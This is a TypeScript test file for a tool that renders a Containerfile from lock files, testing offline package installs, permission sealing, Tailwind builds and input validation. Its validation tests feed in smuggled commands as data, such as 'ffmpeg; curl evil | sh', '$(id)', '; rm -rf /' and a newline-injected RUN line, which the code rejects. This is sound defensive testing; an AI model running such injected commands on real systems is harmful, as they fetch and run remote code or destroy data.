import * as fs from 'node:fs';
import * as path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { ForgeError } from '../../tools/src/diagnostics';
import { containerfileData, renderContainerfile, satisfiesRequiresPython, type BaseRecord } from '../../tools/src/image';
import { debFileName } from '../../tools/src/image/debian-lock';
import type { DebianLock } from '../../tools/src/artifacts/debian-lock';
import { stageBuildContext } from '../../tools/src/image/build-context';
import { debianArchiveUri } from '../../tools/src/image/mirror';
import type { SynthesisManifest } from '../../tools/src/artifacts/synthesis-manifest';
import { WORKSPACE } from '../support/codex-fixture';
import { tempDir } from '../support/temp';

const manifest = JSON.parse(fs.readFileSync(path.join(WORKSPACE, 'forge/synthesis.lock.json'), 'utf8')) as SynthesisManifest;
const scrollText = fs.readFileSync(path.join(WORKSPACE, 'codex/lychd.toml'), 'utf8');
const base: BaseRecord = { kind: 'debian', ref: 'bookworm', digest: `sha256:${'a'.repeat(64)}`, python: '3.11' };
const lock = JSON.parse(fs.readFileSync(path.join(WORKSPACE, 'forge/synthesis/debian.lock.json'), 'utf8')) as DebianLock;
const debs = lock.packages.map(debFileName);
const inputs = { manifest, base, debs, python: '3.11', port: 8000, scrollText, scrollFile: 'codex/lychd.toml' };
const work = tempDir('lychd-containerfile-');
afterAll(() => fs.rmSync(work, { recursive: true, force: true }));

function forgeError(fn: () => unknown): ForgeError {
  try {
    fn();
  } catch (e) {
    expect(e).toBeInstanceOf(ForgeError);
    return e as ForgeError;
  }
  throw new Error('expected a ForgeError');
}

describe('the Containerfile of the example', () => {
  const text = renderContainerfile(WORKSPACE, containerfileData(inputs));

  it("installs exactly the Debian lock's files from the context, without apt-get update, with the cleanup, in one RUN", () => {
    const system = text.slice(text.indexOf('AS system'), text.indexOf('AS builder'));
    expect(system).toContain('RUN --mount=type=bind,source=.forge/debs,target=/tmp/debs');
    expect(system).not.toContain('apt-get update');
    expect(system).toContain(
      `apt-get install -y --no-install-recommends \\\n${debs.map((d) => `      /tmp/debs/${d} \\\n`).join('')} && apt-get clean`,
    );
    expect(debs).toContain('ffmpeg_5.1.9-0+deb12u1_amd64.deb');
    expect(system).toContain('rm -rf /var/lib/apt/lists/* /var/log/apt/*');
  });

  it('syncs the dependencies before it copies any source, offline with the mounted uv', () => {
    const deps = text.indexOf('uv sync --no-install-workspace');
    const firstSource = text.indexOf('COPY app/ /app/');
    expect(deps).toBeGreaterThan(0);
    expect(firstSource).toBeGreaterThan(deps);
    expect(text).toContain('UV_FROZEN=1 UV_OFFLINE=1');
    expect(text).toContain('--mount=type=bind,source=.forge/uv,target=/usr/local/bin/uv');
    expect(text.indexOf('COPY deps/ /app/')).toBeLessThan(deps);
    for (const c of manifest.components) expect(text).toContain(`#   ${c.name} (${c.path})\n`);
  });

  it('seals /app in the builder and runs as a user in the runner', () => {
    const builder = text.slice(text.indexOf('AS builder'), text.indexOf('AS runner'));
    const runner = text.slice(text.indexOf('AS runner'));
    expect(builder).toContain('chmod -R a-w /app');
    expect(runner).not.toContain('chmod -R');
    expect(runner).toContain('RUN chmod a-w /app /app/.venv /app/core /app/extensions /app/extensions/atelier');
    expect(runner).toContain('USER 10001:10001');
    expect(runner).toContain('PYTHONDONTWRITEBYTECODE=1');
    expect(runner).toContain('ENTRYPOINT ["/app/.venv/bin/lychd"]');
  });

  it('renders the same bytes every time, with LF and no absolute workspace path', () => {
    expect(renderContainerfile(WORKSPACE, containerfileData(inputs))).toBe(text);
    expect(text).not.toContain('\r');
    expect(text).not.toContain(WORKSPACE);
  });

  it('builds FROM a pinned image when [forge.base] names one', () => {
    const ref = `docker.io/library/python:3.11-slim@sha256:${'b'.repeat(64)}`;
    const pinned = renderContainerfile(
      WORKSPACE,
      containerfileData({ ...inputs, base: { kind: 'image', ref, digest: `sha256:${'b'.repeat(64)}` } }),
    );
    expect(pinned).toContain(`FROM ${ref} AS base`);
    expect(pinned).not.toContain('base.tar');
    // A pinned image brings its own apt sources: its system packages are installed by name.
    const byName = renderContainerfile(
      WORKSPACE,
      containerfileData({ ...inputs, debs: [], base: { kind: 'image', ref, digest: `sha256:${'b'.repeat(64)}` } }),
    );
    expect(byName).toMatch(
      /apt-get update \\\n && DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends \\\n {6}ffmpeg \\\n {6}sox \\\n {6}tesseract-ocr \\\n {6}tesseract-ocr-eng \\\n && apt-get clean/,
    );
  });
});

describe('the Node and Tailwind of the example', () => {
  const text = renderContainerfile(WORKSPACE, containerfileData(inputs));
  const node = text.slice(text.indexOf('AS node'), text.indexOf('AS runner'));
  const runner = text.slice(text.indexOf('AS runner'));

  it('installs the npm lock offline, without scripts, with the mounted pinned Node and npm, from the base', () => {
    expect(text).toContain('FROM base AS node');
    expect(node).toContain('COPY node/ /app/');
    expect(node).toContain('--mount=type=bind,source=.forge/node,target=/opt/lychd-node');
    expect(node).toContain('--mount=type=bind,source=.forge/npm-cache,target=/npm-cache,rw');
    expect(node).toMatch(/\/opt\/lychd-node\/node\/bin\/node \/opt\/lychd-node\/npm\/bin\/npm-cli\.js ci --offline --ignore-scripts /);
    expect(node).toContain('--cache /npm-cache');
    // The lock's layer comes before any source: a source edit never re-installs node_modules.
    expect(node.indexOf('npm-cli.js ci')).toBeLessThan(node.indexOf('COPY app/'));
  });

  it("builds the merged Tailwind config with the lock's tailwindcss and ships the CSS beside each extension that has a config", () => {
    expect(node).toContain('COPY tailwind/ /app/forge/synthesis/tailwind/');
    expect(node).toContain(
      '/app/node_modules/tailwindcss/lib/cli.js \\\n      --config /app/forge/synthesis/tailwind/tailwind.config.js --output /app/forge/synthesis/tailwind/tailwind.css',
    );
    expect(runner).toContain('COPY --from=node /app/node_modules /app/node_modules\n');
    // The Node packages right after the Python environment, before any source: a source edit recopies neither.
    const copies = [...runner.matchAll(/^COPY --from=\S+ (\S+) /gm)].map((m) => m[1]);
    expect(copies.slice(0, 4)).toEqual(['/app/.venv', '/app/node_modules', '/app/forge/synthesis/python', '/app/core']);
    const shipped = [...runner.matchAll(/^COPY --from=node \/app\/forge\/synthesis\/tailwind\/tailwind\.css (\S+)$/gm)].map((m) => m[1]);
    expect(shipped).toEqual(manifest.tailwind.sources.map((s) => `/app/${path.posix.dirname(s)}/static/tailwind.css`));
    expect(shipped).toEqual(['/app/extensions/atelier/static/tailwind.css', '/app/extensions/oracle/static/tailwind.css']);
    // The folders those copies create are sealed too; the Seal comes after every copy.
    expect(runner).toMatch(/RUN chmod a-w .* \/app\/extensions\/oracle\/static .* \/app\/node_modules\n/);
    expect(runner.lastIndexOf('COPY ')).toBeLessThan(runner.indexOf('RUN chmod a-w'));
  });

  it("refuses to replace a component's own file with the built CSS, before staging anything", () => {
    const root = fs.mkdtempSync(path.join(work, 'ws-'));
    fs.mkdirSync(path.join(root, 'extensions/atelier/static'), { recursive: true });
    fs.writeFileSync(path.join(root, 'extensions/atelier/static/tailwind.css'), '.mine {}\n');
    const dir = path.join(root, 'tmp/forge/context');
    const e = forgeError(() =>
      stageBuildContext({
        workspaceRoot: root,
        dir,
        data: containerfileData(inputs),
        containerfile: 'forge/Containerfile',
        uv: '/bin/true',
      }),
    );
    expect(e.message).toContain(
      'extensions/atelier/static/tailwind.css: error[LYCHD600]: is where the Forge puts the CSS built from the merged Tailwind config',
    );
    expect(e.message).not.toContain('extensions/oracle');
    expect(fs.existsSync(dir)).toBe(false);
  });

  it('has no node stage when the manifest locks no Node package and merges no Tailwind config', () => {
    const bare = structuredClone(manifest);
    bare.node.packages = [];
    bare.tailwind.sources = [];
    const none = renderContainerfile(WORKSPACE, containerfileData({ ...inputs, manifest: bare }))
      .split('\n')
      .filter((l) => !l.startsWith('#'))
      .join('\n');
    expect(none).toContain('AS runner');
    expect(none).not.toContain('AS node');
    expect(none).not.toContain('node_modules');
    expect(none).not.toContain('tailwind');
  });

  it('refuses Tailwind configs with no tailwindcss 3 in the npm lock, saying where to add it', () => {
    const without = structuredClone(manifest);
    without.node.packages = without.node.packages.filter((p) => p.name !== 'tailwindcss');
    const e = forgeError(() => containerfileData({ ...inputs, manifest: without }));
    expect(e.diagnostics).toEqual([expect.objectContaining({ file: 'forge/synthesis.lock.json', field: 'node.packages' })]);
    expect(e.message).toContain('the npm lock has no tailwindcss: the CSS cannot be built');
    expect(e.message).toContain(
      'add "tailwindcss": "^3.4.17" to the devDependencies of extensions/atelier/package.json or extensions/oracle/package.json',
    );
    const four = structuredClone(manifest);
    four.node.packages.find((p) => p.name === 'tailwindcss')!.version = '4.1.0';
    expect(forgeError(() => containerfileData({ ...inputs, manifest: four })).message).toContain('has tailwindcss 4.1.0, not 3.x');
  });
});

describe('what never reaches the Containerfile', () => {
  it('rejects a system package or a path that is not plain data, naming each', () => {
    const bad = structuredClone(manifest);
    bad.system[0]!.spec = 'ffmpeg; curl evil | sh';
    bad.components[1]!.path = '../outside';
    const e = forgeError(() => containerfileData({ ...inputs, manifest: bad }));
    expect(e.diagnostics.map((d) => d.field).sort()).toEqual(['components[1].path', 'system[0].spec']);
    expect(e.message).toContain('forge/synthesis.lock.json: error[LYCHD600]: "ffmpeg; curl evil | sh" is not a Debian package name');
  });

  it('rejects a component name or a Python version that would write its own line', () => {
    const bad = structuredClone(manifest);
    bad.components[1]!.name = 'atelier\nRUN echo INJECTED > /etc/motd\n#';
    const e = forgeError(() =>
      containerfileData({ ...inputs, manifest: bad, python: '3.11\nRUN id', base: { ...inputs.base, python: '3.11 x' } }),
    );
    expect(e.diagnostics.map((d) => d.field).sort()).toEqual(['components[1].name', 'forge.base', 'forge.python', 'forge.python']);
    expect(e.message).toContain(
      'forge/synthesis.lock.json: error[LYCHD600]: "atelier\\nRUN echo INJECTED > /etc/motd\\n#" is not a component name',
    );
    expect(e.message).not.toContain('\nRUN echo INJECTED');
  });

  it('rejects a Node lock or Tailwind path that is not plain data', () => {
    const bad = structuredClone(manifest);
    bad.node.lockfile = 'forge/$(id)/package-lock.json';
    bad.tailwind.config = 'forge/synthesis/tailwind/x.js; rm -rf /';
    bad.tailwind.sources[0] = '../../etc/tailwind.config.js';
    const e = forgeError(() => containerfileData({ ...inputs, manifest: bad }));
    expect(e.diagnostics.map((d) => d.field).sort()).toEqual(['node.lockfile', 'tailwind.config', 'tailwind.sources[0]']);
  });

  it('rejects a locked file name that is not a plain .deb name', () => {
    const e = forgeError(() => containerfileData({ ...inputs, debs: [debs[0]!, 'x_1_all.deb; curl evil | sh', '../up_1_all.deb'] }));
    expect(e.diagnostics.map((d) => d.field)).toEqual(['packages[1].filename', 'packages[2].filename']);
    expect(e.message).toContain(
      'forge/synthesis/debian.lock.json: error[LYCHD600]: "x_1_all.deb; curl evil | sh" is not a plain .deb file name',
    );
  });

  it('says which Pythons disagree with forge.python, and where it is set', () => {
    const line = scrollText.split('\n').findIndex((l) => l.startsWith('python = ')) + 1;
    const e = forgeError(() => containerfileData({ ...inputs, python: '3.12' }));
    expect(e.diagnostics).toEqual([expect.objectContaining({ file: 'codex/lychd.toml', line, field: 'forge.python' })]);
    expect(e.message).toContain('"3.12" disagrees: the base (debian bookworm) has Python 3.11');
    expect(e.message).toContain('set python = "3.11"');
    const lock = structuredClone(manifest);
    lock.python.requiresPython = '>=3.12';
    const both = forgeError(() => containerfileData({ ...inputs, manifest: lock }));
    expect(both.message).toContain('has requires-python ">=3.12"');
  });

  it('reports a broken template as a ForgeError naming it', () => {
    fs.mkdirSync(path.join(work, 'forge/templates'), { recursive: true });
    fs.writeFileSync(path.join(work, 'forge/templates/Containerfile.njk'), 'FROM {{ nothing.here }}\n');
    expect(forgeError(() => renderContainerfile(work, containerfileData(inputs))).message).toContain('forge/templates/Containerfile.njk');
  });
});

describe('requires-python', () => {
  it.each([
    ['3.11', '>=3.11', true],
    ['3.11', '>=3.12', false],
    ['3.12', '>=3.10,<3.13', true],
    ['3.13', '>=3.10,<3.13', false],
    ['3.11', '~=3.10', true],
    ['3.11', '==3.11.*', true],
    ['3.12', '==3.11.*', false],
    ['3.11', '!=3.11.*', false],
    ['3.11', 'nonsense', false],
  ])('%s against %s', (python, spec, ok) => expect(satisfiesRequiresPython(python, spec)).toBe(ok));
});

describe("the machine's Debian archive", () => {
  it('is the main archive of the one-line or deb822 sources, never security or a third party', () => {
    const etc = path.join(work, 'apt');
    fs.mkdirSync(path.join(etc, 'sources.list.d'), { recursive: true });
    fs.writeFileSync(
      path.join(etc, 'sources.list'),
      '# deb http://old.example/debian bookworm main\ndeb https://repo.example/node bookworm main\n',
    );
    fs.writeFileSync(
      path.join(etc, 'sources.list.d/debian.sources'),
      'Types: deb\nURIs: http://security.example/debian-security\nSuites: bookworm-security\n\nTypes: deb\nURIs: http://mirror.example/debian/\nSuites: bookworm\n',
    );
    expect(debianArchiveUri({}, etc)).toBe('http://mirror.example/debian');
    expect(debianArchiveUri({ LYCHD_DEBIAN_MIRROR: 'http://other.example/debian/' }, etc)).toBe('http://other.example/debian');
    expect(debianArchiveUri({}, path.join(work, 'none'))).toBeUndefined();
  });
});
